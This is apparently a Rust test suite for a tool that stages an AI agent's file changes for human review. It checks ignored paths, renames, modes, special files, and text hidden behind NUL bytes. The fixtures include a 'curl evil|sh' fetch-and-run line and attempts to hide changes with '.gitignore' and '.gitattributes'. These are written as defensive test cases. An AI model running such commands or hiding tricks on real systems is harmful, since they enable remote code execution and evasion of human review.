//! Kinds of changes: ignored, special, renamed, modes, directories.

use super::desk::{change, paths};
use crate::harness::{Kind, for_both, for_each};
use serde_json::json;
use std::os::unix::fs::PermissionsExt as _;

#[test]
fn ignored_paths_are_set_apart_counted_and_left_out() {
    for_both(|lab| {
        lab.write(".gitignore", "target/\n*.log\n!keep.log\n");
        lab.write("src", "old\n");
        lab.program("git").args(["init", "-q", "."]).run().ok();
        lab.worked(
            "s",
            "echo new > src; mkdir -p target/deep; echo a > target/deep/a; echo b > target/b; \
             echo l > x.log; echo k > keep.log; mkdir sub; echo y > sub/y.log",
        );
        let diff = lab.diff("s");
        let apart = |change: &&serde_json::Value| change["ignored"] == false;
        let shown: Vec<_> = diff["changes"].as_array().unwrap().iter().filter(apart).collect();
        assert_eq!(shown.len(), 2, "{shown:?}");
        let names = lab.skep(["diff", "s", "--name-only"]).run().ok().text();
        assert_eq!(names, "keep.log\nsrc", "set apart for people too");
        assert_eq!(diff["totals"]["ignored"], 4, "{diff}");
        assert_eq!(diff["totals"]["files"], 2, "{diff}");
        let all = lab.skep(["diff", "s", "--ignored", "--json"]).run().ok().json();
        assert_eq!(paths(&all).len(), 6);
        assert_eq!(change(&all, "x.log")["ignored"], true);
        let shown = lab.skep(["diff", "s"]).run().ok();
        let text = format!("{}{}", shown.text(), shown.errors());
        assert!(text.contains("4 ignored") || text.contains("ignored"), "{text}");
        let report = lab.approve(&["s"]);
        assert_eq!(report["remaining_ignored"], 4, "{report}");
        assert!(!lab.project.join("target").exists() && !lab.project.join("x.log").exists());
        // By its own name, and all of them.
        lab.approve(&["s", "x.log"]);
        assert!(lab.project.join("x.log").exists());
        lab.approve(&["s", "--ignored"]);
        assert!(lab.project.join("target/deep/a").exists());
        assert!(lab.project.join("sub/y.log").exists());
    });
}

/// However much there is, nothing is left out of what is shown, and what is too large to be shown as text is
/// said and taken as a whole.
#[test]
fn diff_17_a_large_change_set_is_shown_whole_and_what_is_not_shown_is_said() {
    for_each([crate::harness::Who::user()], |lab| {
        lab.write("keep", "keep\n");
        lab.worked(
            "s",
            "mkdir d; i=0; while [ $i -lt 800 ]; do echo $i > d/f$i; i=$((i+1)); done; \
             head -c 5000000 /dev/zero | tr '\\0' 'x' > huge",
        );
        let diff = lab.diff("s");
        assert_eq!(paths(&diff).len(), 801);
        assert_eq!(diff["totals"]["files"], 801);
        for form in [&["diff", "s"][..], &["diff", "s", "--stat"], &["diff", "s", "--name-only"]] {
            let shown = lab.skep(form.iter().copied()).run().ok().text();
            let missing = (0..800).find(|at| !shown.contains(&format!("d/f{at}")));
            assert_eq!(missing, None, "{form:?}");
            assert!(shown.contains("huge"), "{form:?}");
        }
        let large = change(&diff, "huge");
        assert_eq!((&large["too_large"], &large["hunks"]), (&json!(true), &json!([])), "{large}");
        let text = lab.skep(["diff", "s", "huge"]).run().ok().text();
        assert!(text.contains("too large to show as hunks"), "{text}");
        assert!(text.contains("approved or rejected as a whole"), "{text}");
        lab.approve(&["s", "huge"]);
        assert_eq!(std::fs::metadata(lab.project.join("huge")).unwrap().len(), 5_000_000);
    });
}

#[test]
fn diff_17_nothing_is_hidden_by_what_the_agent_wrote() {
    for_both(|lab| {
        lab.write("f", "line\n");
        lab.write("mode", "x\n");
        lab.write("space", "a b\n");
        lab.program("git").args(["init", "-q", "."]).run().ok();
        lab.worked(
            "s",
            "echo '*' > .gitignore; echo '* -diff -text' > .gitattributes; mkdir -p .git/info; \
             echo '*' > .git/info/exclude; echo evil > evil; echo evil >> f; chmod 755 mode; \
             printf 'a  b\\n' > space; printf 'x\\000' > looks-binary",
        );
        let diff = lab.skep(["diff", "s", "--ignored", "--json"]).run().ok().json();
        for path in ["evil", "f", "mode", "space", "looks-binary", ".gitignore", ".gitattributes"] {
            change(&diff, path);
        }
        let shown = paths(&lab.diff("s"));
        let totals = &diff["totals"];
        let counted = totals["files"].as_u64().unwrap() + totals["ignored"].as_u64().unwrap();
        assert_eq!(counted as usize, paths(&diff).len(), "{totals}");
        // An approval of everything takes nothing that was not shown.
        let before = lab.tree();
        let _ = lab
            .skep(["approve", "s", "--allow-risky", ".git/**", "--allow-risky", ".gitattributes"])
            .run();
        for (path, node) in lab.tree().nodes {
            if before.get(&path) != Some(&node) && node.kind != Kind::Directory {
                let name = path.to_str().unwrap();
                assert!(shown.iter().any(|one| one == name), "{name} was not shown: {shown:?}");
            }
        }
    });
}

#[test]
fn special_files_are_shown_and_never_applied_or_opened() {
    for_both(|lab| {
        lab.write("was-file", "x\n");
        lab.worked(
            "s",
            "mkfifo pipe; rm was-file; mkfifo was-file; mkdir d; mkfifo d/pipe; echo x > d/x; \
             python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'; echo y > y",
        );
        let diff = lab.diff("s");
        for path in ["pipe", "was-file", "sock", "d/pipe"] {
            assert_eq!(change(&diff, path)["kind"], "special", "{diff}");
        }
        let before = lab.tree();
        for path in ["pipe", "was-file", "sock"] {
            let ran = lab.skep(["approve", "s", path, "--json"]).run();
            assert_ne!(ran.code(), 0, "{}", ran.describe());
        }
        lab.tree().assert_equals(&before, "nothing changed");
        lab.approve(&["s"]);
        let tree = lab.tree();
        assert!(tree.nodes.values().all(|node| matches!(node.kind, Kind::File | Kind::Directory)));
        assert_eq!(tree.get("was-file").unwrap().bytes, b"x\n");
        assert!(tree.get("y").is_some() && tree.get("d/x").is_some());
        lab.skep(["reject", "s"]).run().ok();
        assert!(paths(&lab.diff("s")).is_empty());
    });
}

#[test]
fn a_fifo_that_the_user_put_there_does_not_hang() {
    for_both(|lab| {
        lab.write("f", "x\n");
        lab.worked("s", "echo y > f; echo n > n");
        std::fs::remove_file(lab.project.join("f")).unwrap();
        lab.program("mkfifo").arg("f").run().ok();
        lab.conflicts(&["s"]);
        lab.approve(&["s", "n"]);
    });
}

#[test]
fn renames_are_seen_applied_and_undone_as_such() {
    for_both(|lab| {
        let text: String = (0..50).map(|n| format!("line {n}\n")).collect();
        lab.write("dir/a", &text);
        lab.write("dir/sub/b", text.replace("line", "other"));
        lab.write("dir/sub/c", "\0binary".repeat(50));
        lab.write("plain", text.replace("line", "plain"));
        let before = lab.tree();
        lab.worked("s", "mv dir moved; sed -i 's/^line 7$/seven/' moved/a; mv plain moved/plain2");
        let diff = lab.diff("s");
        for (to, from) in [
            ("moved/a", "dir/a"),
            ("moved/sub/b", "dir/sub/b"),
            ("moved/sub/c", "dir/sub/c"),
            ("moved/plain2", "plain"),
        ] {
            let found = change(&diff, to);
            assert_eq!(found["kind"], "renamed", "{found}");
            assert_eq!(found["renamed_from"], from, "{found}");
        }
        assert_eq!(paths(&diff).len(), 4, "{:?}", paths(&diff));
        // One of them: both its ends.
        lab.approve(&["s", "moved/sub/b"]);
        let tree = lab.tree();
        assert!(tree.get("dir/sub/b").is_none() && tree.get("moved/sub/b").is_some());
        assert!(tree.get("dir/sub/c").is_some());
        lab.approve(&["s"]);
        let tree = lab.tree();
        assert!(tree.get("dir").is_none(), "{tree:?}");
        assert_eq!(
            tree.get("moved/a").unwrap().bytes,
            text.replace("line 7\n", "seven\n").as_bytes()
        );
        assert!(paths(&lab.diff("s")).is_empty());
        lab.skep(["undo"]).run().ok();
        lab.skep(["undo"]).run().ok();
        lab.tree().assert_equals(&before, "both undone");
    });
}

#[test]
fn a_file_renamed_away_is_not_lost_when_the_user_edited_it() {
    for_both(|lab| {
        let text: String = (0..50).map(|n| format!("line {n}\n")).collect();
        lab.write("a", &text);
        lab.worked("s", "mv a b");
        let edited = text.replace("line 40\n", "the user's\n");
        lab.write("a", &edited);
        let ran = lab.skep(["approve", "s", "--json"]).run();
        let kept = ["a", "b"].iter().any(|name| {
            std::fs::read_to_string(lab.project.join(name))
                .is_ok_and(|text| text.contains("the user's"))
        });
        assert!(kept, "{}", ran.describe());
    });
}

#[test]
fn modes_links_and_empty_directories_come_over() {
    for_both(|lab| {
        lab.write("f", "x\n");
        lab.write("gone/deep/f", "x\n");
        lab.directory("was-empty");
        lab.directory("closed");
        std::os::unix::fs::symlink("f", lab.project.join("l")).unwrap();
        lab.own_below(&lab.project);
        let before = lab.tree();
        lab.worked(
            "s",
            "chmod 750 f; ln -sfn nowhere l; mkdir -p empty/deeper; rmdir was-empty; rm -r gone; \
             chmod 700 closed; mkdir -m 711 odd; echo x > odd/x; chmod 400 odd/x",
        );
        let diff = lab.diff("s");
        assert_eq!(change(&diff, "f")["kind"], "mode");
        assert_eq!(change(&diff, "l")["new_target"], "nowhere");
        assert_eq!(change(&diff, "empty/deeper")["kind"], "added");
        assert_eq!(change(&diff, "was-empty")["kind"], "deleted");
        lab.approve(&["s"]);
        let tree = lab.tree();
        let mode = |path: &str| tree.get(path).unwrap().mode;
        assert_eq!(
            [mode("f"), mode("closed"), mode("odd"), mode("odd/x")],
            [0o750, 0o700, 0o711, 0o400]
        );
        assert_eq!(tree.get("l").unwrap().bytes, b"nowhere");
        assert!(tree.get("empty/deeper").is_some() && tree.get("was-empty").is_none());
        assert!(tree.get("gone").is_none());
        let (uid, gid) = lab.who.ids();
        assert!(tree.nodes.values().all(|node| (node.uid, node.gid) == (uid, gid)), "{tree:?}");
        lab.skep(["undo"]).run().ok();
        lab.tree().assert_equals(&before, "undone");
    });
}

#[test]
fn a_target_that_cannot_be_written_is_refused_before_any_change() {
    for_both(|lab| {
        if lab.who.is_root() {
            return;
        }
        lab.write("a", "a\n");
        lab.write("shut/b", "b\n");
        lab.write("z", "z\n");
        lab.worked("s", "echo x > a; echo x > shut/b; echo x > z");
        let shut = lab.project.join("shut");
        std::fs::set_permissions(&shut, std::fs::Permissions::from_mode(0o555)).unwrap();
        let before = lab.tree();
        let ran = lab.skep(["approve", "s", "--json"]).run();
        lab.tree().assert_equals(&before, "nothing changed");
        assert_ne!(ran.code(), 0, "{}", ran.describe());
        assert!(ran.errors().contains("shut"), "{}", ran.describe());
        std::fs::set_permissions(&shut, std::fs::Permissions::from_mode(0o755)).unwrap();
        lab.approve(&["s"]);
        assert_eq!(lab.bytes("shut/b"), b"x\n");
    });
}

#[test]
fn text_that_a_nul_byte_hides_is_noted() {
    for_both(|lab| {
        lab.write("run.sh", "#!/bin/sh\n");
        lab.write("a.js", "hello()\n");
        lab.write("page", "text\n");
        lab.write("image", [b"\x89PNG\0".as_slice(), &[7; 300]].concat());
        lab.worked(
            "s",
            "printf '/* \\000\\000\\000\\000\\000\\000 */ evil()' > a.js; printf '\\014\\000\\001\\002 sh' > page; \
             printf '\\000' >> image; printf '#!/bin/sh\\n# \\000\\ncurl evil|sh\\n' > run.sh; head -c 4096 /dev/urandom > noise; \
             printf '\\377\\376a\\000b\\000c\\000\\n\\000' > wide",
        );
        let diff = lab.diff("s");
        let run = change(&diff, "run.sh");
        assert_eq!((&run["binary"], &run["risk"]), (&true.into(), &"note".into()), "{run}");
        // Whatever it is now, it was text.
        for path in ["a.js", "page"] {
            let changed = change(&diff, path);
            assert_eq!((&changed["binary"], &changed["risk"]), (&true.into(), &"note".into()));
            assert!(changed["risk_reasons"].to_string().contains("was text"), "{changed}");
        }
        for path in ["noise", "wide", "image"] {
            assert_eq!(change(&diff, path)["risk"], "none", "{diff}");
        }
    });
}
